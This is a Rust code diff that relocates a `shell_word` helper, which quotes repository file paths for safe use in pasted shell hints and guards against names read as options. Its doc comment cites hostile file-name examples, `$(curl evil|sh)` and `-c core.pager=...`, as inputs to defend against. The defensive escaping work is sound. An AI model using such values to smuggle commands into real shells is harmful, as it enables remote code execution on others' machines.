@@ -23,6 +23,8 @@ pub mod error;
 pub mod files;
 pub mod fix;
 pub mod git;
+
+pub use fix::shell_word;
 pub mod roles;
 pub mod rotation;
 pub mod staged;
@@ -388,28 +390,6 @@ pub fn looks_secret(key: &str) -> bool {
     ];
     let upper = key.to_ascii_uppercase();
     WORDS.iter().any(|w| upper.contains(w))
-}
-
-/// `path` as one word of a shell command in a hint, safe to paste: quoted when it holds
-/// anything but the usual file-name characters, and `./` in front of a relative name that
-/// starts with `-` (so `chmod` or `git rm` does not read it as an option). File names in a
-/// repository are anyone's choice (`$(curl evil|sh)`, `-c core.pager=...`).
-pub fn shell_word(path: &std::path::Path) -> String {
-    let text = path.to_string_lossy();
-    let text = if text.starts_with('-') {
-        format!("./{text}")
-    } else {
-        text.into_owned()
-    };
-    let plain = !text.is_empty()
-        && text
-            .chars()
-            .all(|c| c.is_ascii_alphanumeric() || "_./@%+=:,-".contains(c));
-    if plain {
-        text
-    } else {
-        format!("'{}'", text.replace('\'', "'\\''"))
-    }
 }
 
 #[cfg(test)]
